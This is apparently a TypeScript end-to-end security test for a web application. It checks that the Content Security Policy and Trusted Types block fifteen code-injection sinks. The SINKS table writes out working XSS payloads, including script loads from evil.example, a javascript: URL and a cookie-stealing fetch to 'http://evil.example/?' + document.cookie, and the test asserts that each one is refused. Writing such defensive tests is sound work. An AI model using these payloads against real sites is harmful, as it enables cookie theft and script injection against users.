import { must, mustEqual } from '../../check';
import { waitForHydration } from '../../page/site';
import { waitUntil } from '../context/timing';
import type { Drill } from '../drill';
import { OTHER_PAGE } from '../context/drill-context';
import { follow } from '../context/page-actions';
import { openVisit } from '../context/visit';

/** Ways in which text becomes code, one line each; every one of them sets `window.injectedRan`. */
const SINKS: Readonly<Record<string, string>> = {
  'an attribute in HTML': `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.injectedRan=1">')`,
  'an inline script': `{ const s = document.createElement('script'); s.textContent = 'window.injectedRan=1'; document.head.append(s); }`,
  'a script from elsewhere': `{ const s = document.createElement('script'); s.src = 'http://evil.example/x.js'; document.head.append(s); }`,
  'a script from here without its hash': `{ const s = document.createElement('script'); s.src = '/robots.txt?x.js'; document.head.append(s); }`,
  'an answer of the service as a script': `{ const s = document.createElement('script'); s.src = '/api/visitor/game/list'; document.head.append(s); }`,
  'a script address of data': `{ const s = document.createElement('script'); s.src = 'data:text/javascript,window.injectedRan=1'; document.head.append(s); }`,
  eval: `try { (0, eval)('window.injectedRan=1'); } catch {}`,
  'new Function': `try { new Function('window.injectedRan=1')(); } catch {}`,
  'a timer with text': `try { setTimeout('window.injectedRan=1', 0); } catch {}`,
  'an address of javascript': `{ const a = document.createElement('a'); a.href = 'javascript:window.injectedRan=1'; document.body.append(a); a.click(); }`,
  'a frame': `{ const f = document.createElement('iframe'); f.srcdoc = '<script>parent.injectedRan=1</' + 'script>'; document.body.append(f); }`,
  'a base address': `{ const b = document.createElement('base'); b.href = 'http://evil.example/'; document.head.append(b); }`,
  'a form to elsewhere': `{ const f = document.createElement('form'); f.action = 'http://evil.example/'; f.target = '_self'; document.body.append(f); f.submit(); }`,
  'data sent elsewhere': `fetch('http://evil.example/?' + document.cookie).catch(() => undefined)`,
  'a picture from elsewhere': `{ new Image().src = 'http://evil.example/x.png'; }`,
};

/** Of these, the sinks that take trusted types: HTML, content and addresses of scripts, eval, timers, frames. */
const TYPED_SINKS = 9;

/** Runs in the page before its scripts: counts what the policy refuses. */
function followViolations(): void {
  const seen: string[] = [];
  Reflect.set(window, 'violations', seen);
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
    seen.push(effectiveDirective);
  });
}

/** Code that somebody smuggles into a page. */
export const policyDrills: readonly Drill[] = [
  {
    rows: [43],
    name: `${Object.keys(SINKS).length} ways of injecting code and sending data away: none has an effect, the application lives`,
    async run(ground) {
      const away: string[] = [];
      const visit = await openVisit(ground, {
        before: followViolations,
        interfere(request) {
          if (new URL(request.url()).hostname === '127.0.0.1') return null;
          if (request.url().startsWith('http')) away.push(request.url());
          return null;
        },
      });
      const { page } = visit;
      await page.goto(ground.own.url + OTHER_PAGE);
      await waitForHydration(page);
      const debug = await page.createCDPSession();
      for (const [name, expression] of Object.entries(SINKS)) {
        // as if the page's own code did it: not subject to an exception for automation
        await debug.send('Runtime.evaluate', {
          expression: `document.addEventListener('drill', () => { ${expression} }, { once: true }); document.dispatchEvent(new Event('drill'))`,
          allowUnsafeEvalBlockedByCSP: false,
        });
        await new Promise((resolve) => setTimeout(resolve, 60));
        must(!(await page.evaluate(() => 'injectedRan' in window)), `${name} was run`);
      }
      mustEqual(away, [], 'requests to elsewhere');
      const refused = await page.evaluate(() => {
        const seen: unknown = Reflect.get(window, 'violations');
        return Array.isArray(seen) ? seen.map(String) : [];
      });
      const least = Object.keys(SINKS).length - 2;
      must(refused.length >= least, `only ${refused.length} violations were seen`);
      const typed = refused.filter((directive) => directive === 'require-trusted-types-for').length;
      must(typed >= TYPED_SINKS, `only ${typed} of them because text is no trusted type`);
      mustEqual(visit.documents, 1, 'document loads');
      await follow(page, '/game-library');
      await waitUntil('the application goes on', 5_000, async () => {
        return (await page.$$('main a[href^="/game-library/"]')).length > 5;
      });
      await visit.end();
      return `${refused.length} violations refused by the policy, ${typed} of them by Trusted Types`;
    },
  },
];
